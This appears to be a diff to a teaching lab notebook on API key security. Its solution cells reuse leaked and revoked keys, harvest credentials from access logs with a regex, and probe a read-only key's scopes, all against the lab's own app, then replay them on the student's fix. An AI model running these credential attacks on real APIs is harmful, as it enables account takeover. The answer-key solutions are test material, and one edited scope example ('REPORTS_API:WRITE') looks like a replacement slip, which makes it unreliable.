@@ -24,13 +24,14 @@
 
 # %%
 import math
+import re
 
 import matplotlib.pyplot as plt
 
 import labkit
-from labkit.attacks import apikeys as attacks
 
 lab = labkit.open_lab("05-api-keys")
+REPORTS_API = "/api/v1/reports"
 lab
 
 # %% [markdown]
@@ -105,15 +106,38 @@ for row in leak:
     print(f"{row['id']:>2} {row['name']:<16} {row['key_hash']:<20} {row['scopes']}")
 
 # %% [markdown]
-# The column is called `key_hash`, but look at the values. Send them as `X-API-Key` and keep one
-# key that the API accepts in `stolen`.
+# The column is called `key_hash`, but look at the values: a SHA-256 digest would be 64 hex
+# characters. Write the attack as a function of the client, `use_leaked_keys(client)`, so you can
+# run it again on your fixed app at the end: read the dump, send every value as the `X-API-Key`
+# header to `GET /api/v1/reports`, and return the values the API accepts (it answers 200).
+# Keep one of them in `stolen`.
+
 
 # %% labkit={"answer": "leaked-table"}
 ### BEGIN SOLUTION
-working = attacks.try_keys(lab.client, [row["key_hash"] for row in leak])
+def use_leaked_keys(client):
+    """Every value of the leaked keys table that the API accepts as a key."""
+    table = client.get("/api/_lab/dump").json()["api_keys"]
+    accepted = []
+    for row in table:
+        response = client.get(REPORTS_API, headers={"X-API-Key": row["key_hash"]})
+        if response.status_code == 200:
+            accepted.append(row["key_hash"])
+    return accepted
+
+
+working = use_leaked_keys(lab.client)
+print(f"{len(working)} of {len(leak)} leaked values work as keys")
 stolen = working[0]
+
+
 ### STUB
-stolen = None  # TODO: a key from the leaked table that the API accepts
+def use_leaked_keys(client):
+    # TODO: send each value of the leaked table as X-API-Key; return those that get 200
+    raise NotImplementedError
+
+
+stolen = None  # TODO: one value from the leaked table that the API accepts
 ### END SOLUTION
 
 # %% labkit={"check": "leaked-table"}
@@ -134,13 +158,38 @@ log_lines = lab.client.get("/api/_lab/access-log").json()["lines"]
 print("\n".join(log_lines[-3:]))
 
 # %% [markdown]
-# Pull the key out of the log (`attacks.keys_in_log` parses the request lines) into
-# `harvested`.
+# Every request line is in the log, query string and all. Write `find_keys(lines)`: a regular
+# expression over the log text that returns every value passed as a credential in a URL
+# (`api_key=`, and while you are at it `key=`, `token=`, `access_token=`). Put the partner's key
+# in `harvested` — and check that it works before you hand it in.
 
 # %% labkit={"answer": "query-log"}
 ### BEGIN SOLUTION
-harvested = attacks.keys_in_log(log_lines)[0]
+CREDENTIAL_IN_URL = re.compile(
+    r"[?&](?:api_?key|key|token|access_token)=([^&\s\"]+)", re.IGNORECASE
+)
+
+
+def find_keys(lines):
+    """Every credential value passed in a query string in these access-log lines."""
+    return list(dict.fromkeys(CREDENTIAL_IN_URL.findall("\n".join(lines))))
+
+
+found = find_keys(log_lines)
+print(found)
+harvested = next(
+    key
+    for key in found
+    if lab.client.get(REPORTS_API, headers={"X-API-Key": key}).status_code == 200
+)
+
+
 ### STUB
+def find_keys(lines):
+    # TODO: a regular expression over the log text; return every ?api_key=... value
+    raise NotImplementedError
+
+
 harvested = None  # TODO: the partner's key, found in the access log
 ### END SOLUTION
 
@@ -153,8 +202,15 @@ lab.check("query-log", harvested)
 # Now be a legitimate user. Alice logs in (an ordinary bearer login, `POST /api/auth/login`),
 # creates a key for a script, and revokes it again because she pasted it into a chat.
 
+
 # %%
-alice = attacks.log_in(lab.client, "alice@example.com", lab.users["alice"].password)
+def bearer_login(client, email, password):
+    """The Authorization header of a bearer login."""
+    response = client.post("/api/auth/login", json={"email": email, "password": password})
+    return {"Authorization": f"Bearer {response.json()['accessToken']}"}
+
+
+alice = bearer_login(lab.client, "alice@example.com", lab.users["alice"].password)
 created = lab.client.post("/api/keys", json={"scopes": ["reports:read"], "name": "pasted-in-chat"},
                           headers=alice).json()  # fmt: skip
 print(created)
@@ -165,7 +221,7 @@ print("revoke:", lab.client.delete(f"/api/keys/{created['id']}", headers=alice).
 
 # %% labkit={"answer": "revoked-key"}
 ### BEGIN SOLUTION
-print(lab.client.get("/api/v1/reports", headers={"X-API-Key": created["key"]}).status_code)
+print(lab.client.get(REPORTS_API, headers={"X-API-Key": created["key"]}).status_code)
 revoked = created["key"]
 ### STUB
 revoked = None  # TODO: the revoked key, if it still works
@@ -178,20 +234,46 @@ lab.check("revoked-key", revoked)
 # ## Attack 4 — a read-only key writes
 #
 # Carol is a viewer: the app lets her create keys with the scope `reports:read` only (try
-# `reports:write` — you get 403). Her dashboard key should only read. Create one and see what it
-# can do with `attacks.probe_scopes`. Put the read-only key in `read_only`.
+# `reports:write` — you get 403). Her dashboard key should only read. What can it really do?
+# The API documents its routes (`lab.routes()` reads its OpenAPI document):
 
 # %%
-carol = attacks.log_in(lab.client, "carol@example.com", lab.users["carol"].password)
+carol = bearer_login(lab.client, "carol@example.com", lab.users["carol"].password)
 print(lab.client.post("/api/keys", json={"scopes": ["reports:write"]}, headers=carol).json())
+api_routes = [route for route in lab.routes() if " /api/v1/" in route]
+print(api_routes)
+
+# %% [markdown]
+# Write `probe(client, key)`: call every route of `api_routes` with the key (a `POST` needs a
+# body: `{"title": ...}`) and return `{route: status}`. Create a read-only key for Carol, probe
+# it, and put it in `read_only` if it writes (201 on `POST /api/v1/reports`).
+
 
 # %% labkit={"answer": "missing-scope"}
 ### BEGIN SOLUTION
+def probe(client, key):
+    """The status every API route answers to this key."""
+    statuses = {}
+    for route in api_routes:
+        method, path = route.split(" ", 1)
+        body = {"title": "written with a read-only key"} if method == "POST" else None
+        response = client.request(method, path, headers={"X-API-Key": key}, json=body)
+        statuses[route] = response.status_code
+    return statuses
+
+
 dashboard = lab.client.post("/api/keys", json={"scopes": ["reports:read"]}, headers=carol).json()
-print(attacks.probe_scopes(lab.client, dashboard["key"]))
+print(dashboard["scopes"], probe(lab.client, dashboard["key"]))
 read_only = dashboard["key"]
+
+
 ### STUB
-read_only = None  # TODO: a key with only reports:read
+def probe(client, key):
+    # TODO: call every route of api_routes with the key; return {route: status}
+    raise NotImplementedError
+
+
+read_only = None  # TODO: a key with only reports:read that writes all the same
 ### END SOLUTION
 
 # %% labkit={"check": "missing-scope"}
@@ -226,8 +308,8 @@ lab.check("old-key", old)
 # the base62 alphabet (`0-9A-Za-z`, ~5.95 bits each, ~178 bits in all) + `checksum(body)`:
 # the CRC32 (`zlib.crc32`) of the 30 body characters, written in base62 with **6** digits,
 # most significant first, padded with `0` (62⁶ > 2³², so any CRC32 fits). A `base62` helper is
-# given. `labkit.patterns.apikeys.looks_like_api_key(key)` tells you when you got the format
-# right.
+# given. To see that you got the format right, check a key of yours the way a secret scanner
+# does: the prefix, 36 base62 characters, and a checksum that matches the body.
 #
 # <!-- labkit:rules key-format -->
 
@@ -359,7 +441,7 @@ lab.check("revoke-expire", **key_system)
 
 # %% [markdown]
 # Read-only, write-only and read+write keys, each against both routes, and keys whose scope is
-# only *near* the route's (`reports:write-drafts`, `reports`, `REPORTS:WRITE`, `reports:*`):
+# only *near* the route's (`reports:write-drafts`, `reports`, `REPORTS_API:WRITE`, `reports:*`):
 #
 # <!-- labkit:rules scopes -->
 
@@ -437,14 +519,73 @@ lab.check(
 # <!-- labkit:rules verify -->
 
 # %% labkit={"check": "verify"}
-lab.check(
-    "verify",
+fixes = dict(
     generate_key=generate_key,
     hash_key=hash_key,
     read_api_key=read_api_key,
     authenticate=authenticate,
     redact_url=redact_url,
 )
+lab.check("verify", **fixes)
+
+# %% [markdown]
+# ## Your own exploits against your fix
+#
+# The check replayed the lab's battery. Now run *your* attacks again, unchanged, on an app
+# that runs your five functions: `use_leaked_keys` on its leaked table (Attack 1), `find_keys`
+# on its access log after the partner's job (Attack 2), a revoked key (Attack 3), `probe` with
+# a read-only key (Attack 4) and last year's key (Attack 5).
+
+# %%
+fixed = lab.patched(**fixes)
+
+
+def status_with(key):
+    return fixed.client.get(REPORTS_API, headers={"X-API-Key": key}).status_code
+
+
+def new_fixed_key(email):
+    accounts = fixed.client.get("/api/_lab/accounts").json()  # the fixed app's own passwords
+    password = next(a["password"] for a in accounts if a["email"] == email)
+    auth = bearer_login(fixed.client, email, password)
+    created = fixed.client.post("/api/keys", json={"scopes": ["reports:read"]}, headers=auth)
+    return auth, created.json()
+
+
+def attack_1():
+    return f"{len(use_leaked_keys(fixed.client))} value(s) of the leaked table work as keys"
+
+
+def attack_2():
+    fixed.client.post("/api/_lab/partner-job")
+    found = find_keys(fixed.client.get("/api/_lab/access-log").json()["lines"])
+    return f"the log shows {found}; {sum(status_with(k) == 200 for k in found)} of them work"
+
+
+def attack_3():
+    auth, created = new_fixed_key("alice@example.com")
+    fixed.client.delete(f"/api/keys/{created['id']}", headers=auth)
+    return f"the revoked key gets {status_with(created['key'])}"
+
+
+def attack_4():
+    _, created = new_fixed_key("carol@example.com")
+    return f"a read-only key gets {probe(fixed.client, created['key'])}"
+
+
+def attack_5():
+    content = fixed.client.get("/api/_lab/old-config").json()["content"]
+    return f"last year's key gets {status_with(content.split('REPORTS_API_KEY=')[1].split()[0])}"
+
+
+for number, attack in enumerate((attack_1, attack_2, attack_3, attack_4, attack_5), 1):
+    try:
+        outcome = attack()
+    except NotImplementedError:
+        outcome = "your exploit is not written yet"
+    except Exception as exc:  # a fix not written yet makes the fixed app answer 500
+        outcome = f"could not run ({type(exc).__name__}: {exc}) — are your fixes written?"
+    print(f"Attack {number}: {outcome}")
 
 # %% [markdown]
 # ## Recap
